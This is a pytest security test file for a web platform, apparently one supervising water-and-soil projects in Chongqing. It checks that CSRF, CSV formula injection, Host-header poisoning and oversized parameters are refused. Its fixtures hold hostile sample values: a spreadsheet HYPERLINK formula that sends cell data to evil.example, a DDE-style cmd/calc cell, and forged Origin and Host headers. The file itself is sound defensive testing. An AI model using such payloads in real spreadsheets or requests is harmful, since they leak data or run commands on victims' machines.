"""Issue 15, the web findings of the security review (shared/reviews/security.md): CSRF from a same-site origin
(H4), Chinese evidence names (H5), silently cut downloads (M1), unbounded tile parameters (M2), missing security
headers and a CDN on /docs (M4), links built from the Host header (M7), CSV formulas (L1), 500s on out-of-range
numbers and points off the raster (L2), and a JSON body parsed before the caller is known (L3).

Each test reproduces the review's request against the real application (TestClient) and a real store."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pyogrio
import pytest
from fastapi.testclient import TestClient

from shuibao.services.platform import auth, features
from shuibao.services.supervision import patches, projects
from shuibao.services.platform.database import init
from shuibao.web import Settings, create_app

from tests.helpers import bearer, patch_row, project_row, square, write_layer

ADMIN_PASSWORD = "Lantern-Orchard-93"
OFFICER_PASSWORD = "Quarry-Heron-5721"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def site(db_url, tmp_path):
    init(db_url, boundaries=False)
    auth.create_user(db_url, "chief", ADMIN_PASSWORD, "city_admin")
    auth.create_user(db_url, "offa", OFFICER_PASSWORD, "district_officer", district="渝北区")
    rows = [project_row(f"P{i}", district="渝北区") for i in range(3)]
    rows[0]["name"], rows[1]["builder"] = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    projects.import_projects(db_url, write_layer(tmp_path / "p.gpkg", rows, [square(i * 2000, 0, 500)
                                                                           for i in range(3)]))
    patches.import_patches(db_url, write_layer(tmp_path / "t.gpkg", [patch_row(f"T{i}") for i in range(25)],
                                               [square(i * 1000, 5000, 100) for i in range(25)]))
    settings = Settings(db=db_url, host="127.0.0.1", port=8822, public_url="https://swc.example.cn/shuibao")
    return TestClient(create_app(settings), base_url="http://127.0.0.1:8822"), db_url


def cookie_session(client, user, password) -> None:
    """Log in as a browser does: the session lives in the client's cookie jar."""
    r = client.post("/api/login", json={"username": user, "password": password})
    assert r.status_code == 200 and client.cookies.get("shuibao_session"), r.text


def open_case(client, headers) -> str:
    r = client.post("/api/cases", headers=headers, json={"title": "现场检查", "category": "other",
                                                         "on": str(date.today()), "district": "渝北区"})
    assert r.status_code == 201, r.text
    return r.json()["case_no"]


def steps(client, headers, no) -> int:
    return len(client.get(f"/api/cases/{no}", headers=headers).json()["events"])


# ------------------------------------------------------------------------------------------------------- H4 CSRF
def test_a_same_site_page_cannot_write_with_the_victims_cookie(site):
    client, _ = site
    admin = bearer(client, "chief", ADMIN_PASSWORD)
    no = open_case(client, admin)
    client.cookies.clear()
    cookie_session(client, "offa", OFFICER_PASSWORD)
    step = {"step": "verify", "outcome": "not_confirmed", "on": str(date.today()), "note": "forged"}
    # the review's attack: a page on another port of the same host posts a multipart form with the cookie
    forged = [{"Origin": "http://127.0.0.1:8823", "Sec-Fetch-Site": "same-site"},
              {"Origin": "http://127.0.0.1:8823"},  # a browser without Fetch Metadata
              {"Sec-Fetch-Site": "cross-site"},
              {"Origin": "null"},  # a sandboxed frame or a file:// page
              {}]  # no header at all: a cookie alone is no proof of intent
    for headers in forged:
        r = client.post(f"/api/cases/{no}/steps", headers=headers, data=step)
        assert r.status_code == 403, (headers, r.text)
    r = client.post("/api/logout", headers={"Origin": "http://127.0.0.1:8823", "Sec-Fetch-Site": "same-site"})
    assert r.status_code == 403
    assert steps(client, admin, no) == 1  # nothing was dismissed
    assert client.get("/api/me").status_code == 200  # and the victim is still logged in
    # the platform's own page: same origin and the header its scripts add
    own = {"Origin": "http://127.0.0.1:8822", "Sec-Fetch-Site": "same-origin", "X-Shuibao-Request": "1"}
    assert client.post(f"/api/cases/{no}/steps", headers=own, data=step).status_code == 200
    assert steps(client, admin, no) == 2


def test_scripts_with_a_token_write_without_the_header_but_not_from_a_foreign_origin(site):
    client, _ = site
    admin = bearer(client, "chief", ADMIN_PASSWORD)
    client.cookies.clear()
    no = open_case(client, admin)  # curl-like: Bearer, no cookie, no Origin
    r = client.post(f"/api/cases/{no}/steps", headers={**admin, "Origin": "http://evil.example"},
                    data={"step": "note", "on": str(date.today()), "note": "x"})
    assert r.status_code == 403 and "origin" in r.json()["detail"]
    # the configured public address is the platform's own origin
    r = client.post(f"/api/cases/{no}/steps", headers={**admin, "Origin": "https://swc.example.cn"},
                    data={"step": "note", "on": str(date.today()), "note": "x"})
    assert r.status_code == 200


# ---------------------------------------------------------------------------------------------- M4 headers, docs
@pytest.mark.parametrize("path", ["/login", "/api/me", "/static/app.js", "/no/such/page", "/ogc", "/docs",
                                  "/healthz"])
def test_every_response_carries_the_security_headers(site, path):
    client, _ = site
    r = client.get(path)
    csp = r.headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in csp and "script-src 'self' 'nonce-" in csp and "object-src 'none'" in csp
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"
    assert "strict-transport-security" in r.headers  # the public address is https


def test_inline_scripts_carry_this_responses_nonce_only(site):
    client, _ = site
    first, second = client.get("/login"), client.get("/login")
    nonce = first.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert f'<script nonce="{nonce}">' in first.text and nonce not in second.text
    assert "<script>" not in first.text  # an inline script without the nonce would not run


def test_the_api_documentation_loads_nothing_from_another_site(site):
    client, _ = site
    for path in ("/docs", "/redoc"):
        page = client.get(path)
        assert page.status_code == 200
        assert "cdn." not in page.text and "http://" not in page.text and "https://" not in page.text
        for src in [part.split('"')[0] for part in page.text.split('src="')[1:]]:
            assert src.startswith("/static/") and client.get(src).status_code == 200, src


# -------------------------------------------------------------------------------------- H5 Chinese file names
def test_evidence_named_in_chinese_is_downloaded_under_its_name(site):
    client, _ = site
    admin = bearer(client, "chief", ADMIN_PASSWORD)
    no = open_case(client, admin)
    r = client.post(f"/api/cases/{no}/steps", headers=admin, data={"step": "note", "on": str(date.today())},
                    files={"evidence": ("现场照片.jpg", b"\xff\xd8 photo", "image/jpeg")})
    assert r.status_code == 200, r.text
    sha = r.json()["events"][-1]["evidence"][0]["sha256"]
    got = client.get(f"/api/evidence/{sha}", headers=admin)
    assert got.status_code == 200 and got.content == b"\xff\xd8 photo"
    disposition = got.headers["content-disposition"]
    assert "filename*=UTF-8''%E7%8E%B0%E5%9C%BA%E7%85%A7%E7%89%87.jpg" in disposition
    assert disposition.startswith("attachment;")


# --------------------------------------------------------------------------------- M1 complete downloads, L1 CSV
def test_a_whole_collection_download_holds_every_feature(site, monkeypatch, tmp_path):
    client, _ = site
    admin = bearer(client, "chief", ADMIN_PASSWORD)
    monkeypatch.setattr(features, "MAX_LIMIT", 10)  # the page limit that used to cut the download
    geojson = client.get("/api/download/patches.geojson", headers=admin)
    assert geojson.status_code == 200 and len(geojson.json()["features"]) == 25
    rows = list(csv.DictReader(io.StringIO(client.get("/api/download/patches.csv", headers=admin).text)))
    assert len(rows) == 25 and {r["patch_code"] for r in rows} == {f"T{i}" for i in range(25)}
    gpkg = client.get("/api/download/patches.gpkg", headers=admin)
    (tmp_path / "d.gpkg").write_bytes(gpkg.content)
    assert len(pyogrio.read_info(tmp_path / "d.gpkg")["fields"]) and \
        pyogrio.read_info(tmp_path / "d.gpkg")["features"] == 25
    assert "shuibao-patches.gpkg" in gpkg.headers["content-disposition"]


def test_csv_downloads_never_hold_a_formula(site):
    client, _ = site
    admin = bearer(client, "chief", ADMIN_PASSWORD)
    text = client.get("/api/download/projects.csv", headers=admin).text
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    area_m2 = next(csv.DictReader(io.StringIO(text)))["area_m2"]
    assert float(area_m2) > 0  # numbers stay numbers


# ------------------------------------------------------------------------- L2 numbers out of range, M7 links
@pytest.mark.parametrize("path", ["/api/audit?limit=-9223372036854775809", "/api/audit?limit=0",
                                  "/api/assessment?year=9223372036854775808", "/api/stations?year=-1",
                                  "/api/governance/progress?year=99999",
                                  "/ogc/collections/patches/items/9223372036854775808",
                                  "/ogc/collections/patches/items?offset=-1",
                                  "/ogc/collections/patches/items?limit=100000000000000000000",
                                  "/api/runs/²", "/api/warnings?date=2026-02-30"])
def test_out_of_range_parameters_are_422(site, path):
    client, _ = site
    r = client.get(path, headers=bearer(client, "chief", ADMIN_PASSWORD))
    assert r.status_code == 422, r.text


def test_a_run_id_beyond_any_stored_is_404(site):
    client, _ = site
    r = client.get("/api/runs/99999999999999999999999", headers=bearer(client, "chief", ADMIN_PASSWORD))
    assert r.status_code == 404


def test_ogc_links_point_at_the_configured_address_whatever_the_host_header(site):
    client, _ = site
    key = auth.issue_api_key(site[1], "规划局")
    body = client.get(f"/ogc?api_key={key}", headers={"Host": "evil.example"}).json()
    hrefs = [lk["href"] for lk in body["links"]]
    assert hrefs and all(h.startswith("https://swc.example.cn/shuibao/") for h in hrefs), hrefs
    assert not any("evil.example" in h for h in hrefs)


# -------------------------------------------------------------------------- L3 bodies read before the caller
def test_an_anonymous_json_body_is_refused_before_it_is_parsed(site):
    client, _ = site
    client.cookies.clear()
    not_json = b"{" * 2000  # the route would answer 422 had the body been parsed
    r = client.post("/api/cases", content=not_json, headers={"content-type": "application/json"})
    assert r.status_code == 401


# --------------------------------------------------------------------------------------- M2, L2 tile limits
@pytest.fixture(scope="module")
def tiles(area, tmp_path_factory):  # noqa: F811
    from shuibao.services.platform import database
    from shuibao.services.monitoring.annual_run import run_monitoring

    from tests.helpers import spec_text

    db = str(tmp_path_factory.mktemp("tiles-sec") / "tiles.gpkg")
    database.init(db, boundaries=False)
    spec = area / "spec-tiles-sec.toml"
    spec.write_text(spec_text(output="out-tiles-sec"), encoding="utf-8")
    run_monitoring(spec, db)
    auth.create_user(db, "chief", ADMIN_PASSWORD, "city_admin")
    client = TestClient(create_app(Settings(db=db, preload=False)))
    return client, bearer(client, "chief", ADMIN_PASSWORD)


@pytest.mark.parametrize("query", ["histogram_bins=20000000", "histogram_bins=" + ",".join(map(str, range(2000))),
                                   "buffer=3000", "padding=1000", "buffer=nan", "histogram_bins=abc"])
def test_tile_parameters_that_would_cost_gigabytes_are_422(tiles, query):
    client, h = tiles
    for path in ("/tiles/statistics", "/tiles/tiles/WebMercatorQuad/8/205/104.png"):
        r = client.get(f"{path}?run=latest&max_size=256&{query}", headers=h)
        assert r.status_code == 422, (path, query, r.status_code)


def test_a_point_off_the_raster_is_404_and_a_point_that_is_no_number_422(tiles):
    client, h = tiles
    assert client.get("/tiles/point/0,0?run=latest", headers=h).status_code == 404
    for bad in ("nan,nan", "inf,30", "1e309,30"):
        assert client.get(f"/tiles/point/{bad}?run=latest", headers=h).status_code in (404, 422), bad
    assert client.get("/tiles/tiles/WebMercatorQuad/-1/0/0.png?run=latest", headers=h).status_code in (404, 422)
    assert client.get("/tiles/tiles/WebMercatorQuad/99/0/0.png?run=latest", headers=h).status_code in (404, 422)
    ok = client.get("/tiles/statistics?run=latest&max_size=256&histogram_bins=20", headers=h)
    assert ok.status_code == 200 and json.loads(ok.content)


def test_every_csv_the_platform_writes_neutralises_formulas(tmp_path):
    from shuibao.services.supervision.common import write_csv_rows
    from shuibao.spreadsheet import csv_chunks, safe_cell

    assert safe_cell("=1+1") == "'=1+1" and safe_cell("+86 23") == "'+86 23" and safe_cell("\t=x") == "'\t=x"
    assert safe_cell("-12.5") == "-12.5" and safe_cell(-3) == -3 and safe_cell("渝北区") == "渝北区"
    path = write_csv_rows(tmp_path / "ledger.csv", ["case", "subject"], [{"case": "SB1", "subject": FORMULA}])
    assert list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1] == ["SB1", "'" + FORMULA]
    many = b"".join(csv_chunks(["n"], ({"n": f"@{i}"} for i in range(2500)), bom=True, rows_per_chunk=1000))
    assert many.startswith("\ufeff".encode()) and many.count("\ufeff".encode()) == 1
    assert many.decode("utf-8-sig").splitlines()[1:] == [f"'@{i}" for i in range(2500)]
